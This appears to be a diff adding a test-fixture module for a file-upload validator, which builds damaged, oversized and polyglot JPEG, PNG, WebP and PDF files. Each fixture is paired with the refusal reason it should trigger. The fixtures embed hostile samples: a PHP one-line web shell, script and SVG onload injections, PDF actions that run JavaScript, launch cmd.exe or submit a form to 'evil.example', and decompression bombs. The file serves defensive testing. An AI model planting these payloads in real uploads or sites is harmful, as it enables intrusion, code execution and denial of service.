@@ -1,0 +1,169 @@
+import sharp from 'sharp'
+import type { RefusalReason } from '#domain/requests/refusals.ts'
+import { deflated, makeCompressedPdf, makePdf } from './pdf.ts'
+import { makeZip, paint, patch, photograph, withComment } from './pictures.ts'
+import { blackPng, joinPng, pngChunk, pngHeader } from './png.ts'
+
+export type BadFiles = Record<string, [content: Buffer, reason: RefusalReason]>
+
+const latin1 = (text: string) => Buffer.from(text, 'latin1')
+
+/** Pictures that are cut short, lie about themselves or are more than they seem. */
+export async function makeBadPictures(): Promise<BadFiles> {
+  const photo = photograph(400, 300)
+  const jpeg = await photo.clone().jpeg().toBuffer()
+  const progressive = await photo.clone().jpeg({ progressive: true }).toBuffer()
+  const png = await photo.clone().png().toBuffer()
+  const webp = await photo.clone().webp().toBuffer()
+  const film = await sharp(
+    await Promise.all(['#f00', '#0f0'].map((colour) => paint(40, 30, colour).png().toBuffer())),
+    {
+      join: { animated: true },
+    },
+  )
+    .webp()
+    .toBuffer()
+  const cut = (whole: Buffer, part: number): BadFiles[string] => [
+    whole.subarray(0, Math.floor(whole.length * part)),
+    'file-damaged',
+  ]
+  const damaged = (content: Buffer): BadFiles[string] => [content, 'file-damaged']
+  const huge = (content: Buffer): BadFiles[string] => [content, 'file-too-many-pixels']
+  return {
+    'nothing at all': damaged(Buffer.alloc(0)),
+    'three bytes of a JPEG and blanks': damaged(latin1('\u00ff\u00d8\u00ff' + ' '.repeat(60))),
+    'a JPEG cut within its header': damaged(jpeg.subarray(0, 15)),
+    'a JPEG cut within its tables': damaged(jpeg.subarray(0, 200)),
+    'a JPEG cut in the middle': cut(jpeg, 0.5),
+    'a JPEG cut near its end': cut(jpeg, 0.99),
+    'a JPEG without its end': damaged(jpeg.subarray(0, -2)),
+    'a progressive JPEG cut in the middle': cut(progressive, 0.5),
+    'a JPEG whose segment is longer than the file': damaged(
+      patch(jpeg, '\u00ff\u00db', 2, [0xff, 0xff]).subarray(0, 900),
+    ),
+    'a PNG of a signature alone': damaged(joinPng()),
+    'a PNG cut behind its header': damaged(png.subarray(0, 33)),
+    'a PNG cut in the middle': cut(png, 0.5),
+    'a PNG without its end': damaged(png.subarray(0, -12)),
+    'a PNG with its middle missing': damaged(
+      joinPng(pngHeader(400, 300), pngChunk('IDAT', latin1('x\u009c')), pngChunk('IEND')),
+    ),
+    'a PNG whose pixels do not match their sum': damaged(patch(png, 'IDAT', 500, [1, 2, 3, 4, 5, 6, 7, 8])),
+    'a PNG without width': damaged(joinPng(pngHeader(0, 300), pngChunk('IDAT'), pngChunk('IEND'))),
+    'a PNG that is an SVG': damaged(Buffer.concat([joinPng(), latin1('<svg xmlns="http://www.w3.org/2000/svg"/>')])),
+    'a WebP of a header alone': damaged(webp.subarray(0, 12)),
+    'a WebP cut in the middle': cut(webp, 0.5),
+    'a WebP that lacks its last bytes': damaged(webp.subarray(0, -10)),
+    'a WebP of an unknown kind': damaged(patch(webp, 'VP8 ', 0, [0x58, 0x58, 0x58, 0x58])),
+    'a WebP whose picture is rubbish': damaged(
+      patch(
+        webp,
+        'VP8 ',
+        8,
+        Array.from({ length: 40 }, () => 0xff),
+      ),
+    ),
+    'a PNG of 256 megapixels in 31 KB': huge(blackPng(16_000, 16_000)),
+    'a PNG one line above the limit': huge(blackPng(8000, 5001)),
+    'a PNG that says it has four gigapixels': huge(
+      joinPng(pngHeader(65_535, 65_535), pngChunk('IDAT'), pngChunk('IEND')),
+    ),
+    'a JPEG that says it has four gigapixels': huge(patch(jpeg, '\u00ff\u00c0', 5, [0xff, 0xdc, 0xff, 0xdc])),
+    'a WebP that says it has 268 megapixels': huge(
+      patch(webp, Buffer.from([0x9d, 0x01, 0x2a]), 3, [0xff, 0x3f, 0xff, 0x3f]),
+    ),
+    'an animated WebP': [film, 'file-animated'],
+    'an animated PNG': [blackPng(10, 10, pngChunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))), 'file-animated'],
+  }
+}
+
+/** Pictures that are an archive, a page or a program at the same time. */
+export async function makePolyglots(): Promise<BadFiles> {
+  const photo = photograph(200, 150)
+  const jpeg = await photo.clone().jpeg().toBuffer()
+  const png = await photo.clone().png().toBuffer()
+  const webp = await photo.clone().webp().toBuffer()
+  const and = (picture: Buffer, more: Buffer | string): BadFiles[string] => [
+    Buffer.concat([picture, typeof more === 'string' ? latin1(more) : more]),
+    'file-type',
+  ]
+  return {
+    'a JPEG and a ZIP': and(jpeg, makeZip()),
+    'a JPEG and a ZIP some way behind it': and(jpeg, Buffer.concat([Buffer.alloc(5000, 1), makeZip('a comment')])),
+    'a PNG and a ZIP': and(png, makeZip()),
+    'a WebP and a ZIP': and(webp, makeZip()),
+    'a PDF and a ZIP': and(makePdf(), makeZip()),
+    'a JPEG and a page': and(jpeg, '<html><script>alert(1)</script>'),
+    'a JPEG and a drawing': and(jpeg, '  <SVG onload=alert(1)>'),
+    'a PNG and a script': and(png, 'x<script src=//evil>'),
+    'a WebP and PHP': and(webp, '<?php system($_GET[0]); ?>'),
+    'a JPEG and a frame': and(jpeg, '\n<iframe src="javascript:1">'),
+    'a JPEG and a Windows program': and(jpeg, 'MZ\u0090\0\u0003'),
+    'a JPEG and a Linux program': and(jpeg, '\u007fELF\u0002'),
+    'a JPEG and a shell script': and(jpeg, '#!/bin/sh\nid\n'),
+    'a JPEG and a RAR': and(jpeg, 'Rar!\u001a\u0007\u0001\0'),
+    'a PNG and a 7z': and(png, '7z\u00bc\u00af\u0027\u001c'),
+    'a JPEG and a GZip': and(jpeg, '\u001f\u008b\u0008\0'),
+    'a JPEG and a PDF': and(jpeg, makePdf()),
+    'a JPEG with a PDF in its comment': [withComment(jpeg, '%PDF-1.4\n1 0 obj'), 'file-type'],
+    'a PNG with a PDF in its comment': [blackPng(10, 10, pngChunk('tEXt', latin1('a\0%PDF-1.4'))), 'file-type'],
+  }
+}
+
+/** Documents that are cut short, closed, or do something. */
+export function makeBadPdfs(): BadFiles {
+  const whole = makePdf()
+  const damaged = (content: Buffer): BadFiles[string] => [content, 'file-damaged']
+  const active = (content: Buffer): BadFiles[string] => [content, 'file-active']
+  const acting = (action: string) => active(makePdf({ catalogue: '/OpenAction 5 0 R', objects: [action] }))
+  const hex = Buffer.from(latin1('1 0 << /S /JavaScript >>').toString('hex'))
+  const bomb = deflated('', Buffer.alloc(17 * 1024 * 1024))
+  const pictureBomb = deflated('/Type /XObject /Subtype /Image', Buffer.alloc(40 * 1024 * 1024))
+  return {
+    'a PDF of a header alone': damaged(latin1('%PDF-1.7\n')),
+    'a PDF cut in the middle': damaged(whole.subarray(0, whole.length / 2)),
+    'a PDF cut before its end': damaged(whole.subarray(0, -8)),
+    'a PDF that does not say where its table is': damaged(
+      latin1(whole.toString('latin1').replace('startxref', 'startxxxx')),
+    ),
+    'a PDF whose table is elsewhere': damaged(
+      latin1(whole.toString('latin1').replace(/startxref\n\d+/, 'startxref\n17')),
+    ),
+    'a PDF with its middle missing': damaged(Buffer.concat([whole.subarray(0, 100), whole.subarray(-60)])),
+    'a PDF of version 9': damaged(latin1(whole.toString('latin1').replace('%PDF-1.7', '%PDF-9.7'))),
+    'a PDF with a page behind it': damaged(Buffer.concat([whole, latin1('<html><script>')])),
+    'a PDF that wants a password': [
+      makePdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard /V 2 >>'] }),
+      'file-encrypted',
+    ],
+    'a PDF that wants a password in other letters': [
+      makePdf({ trailer: '/Encr#79pt 5 0 R', objects: ['<< /V 2 >>'] }),
+      'file-encrypted',
+    ],
+    'a PDF with a script at its opening': acting('<< /S /JavaScript /JS (app.alert(1)) >>'),
+    'a PDF with a script in other letters': acting('<< /S /J#61va#53cript /JS (app.alert(1)) >>'),
+    'a PDF with a script by name': active(makePdf({ catalogue: '/Names << /JavaScript 5 0 R >>', objects: ['<< >>'] })),
+    'a PDF that starts a program': acting('<< /S /Launch /F (cmd.exe) >>'),
+    'a PDF with a file in it': active(makePdf({ objects: [deflated('/Type /EmbeddedFile', 'MZ')] })),
+    'a PDF with files by name': active(makePdf({ catalogue: '/Names << /EmbeddedFiles 5 0 R >>', objects: ['<< >>'] })),
+    'a PDF with a film': active(makePdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] })),
+    'a PDF that plays': acting('<< /S /Rendition /OP 0 >>'),
+    'a PDF that opens another in it': acting('<< /S /GoToE /T << /R /C >> >>'),
+    'a PDF that sends a form': acting('<< /S /SubmitForm /F (https://evil.example) >>'),
+    'a PDF that reads a file': acting('<< /S /ImportData /F (c.fdf) >>'),
+    'a PDF with a form of XML': active(makePdf({ catalogue: '/AcroForm << /XFA 5 0 R >>', objects: ['<< >>'] })),
+    'a PDF with a script among compressed objects': active(
+      makeCompressedPdf('/OpenAction << /S /JavaScript /JS (1) >>'),
+    ),
+    'a PDF with a script in a compressed stream without a name': active(
+      makePdf({ objects: [deflated('', '<< /S /JavaScript >>')] }),
+    ),
+    'a PDF with objects in hexadecimal': active(
+      makePdf({ objects: [['/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', hex]] }),
+    ),
+    'a PDF with a stream that becomes too much': damaged(makePdf({ objects: [bomb] })),
+    'a PDF with twenty pictures that become too much': damaged(
+      makePdf({ objects: Array.from({ length: 20 }, () => pictureBomb) }),
+    ),
+  }
+}
